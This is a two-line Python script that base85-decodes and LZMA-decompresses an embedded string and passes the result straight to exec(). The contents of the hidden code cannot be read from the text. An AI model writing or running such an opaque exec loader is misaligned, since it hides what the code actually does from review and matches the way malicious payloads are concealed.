import base64, lzma

exec(lzma.decompress(base64.b85decode('{Wp48S^xk9=GL@E0stWa761SMbT8$j0RTX0ZE$aLbRchY3U6~Rb9r-gWo;-TV|8+DAT4tsXmoUNb2=|CWq4t2aBO8RX>N95Y-waKb1rjeAbcQmXd)>J00000MEvw;mn|+%00CJ+Fd`&MAGY&-0RR9100dcD')))
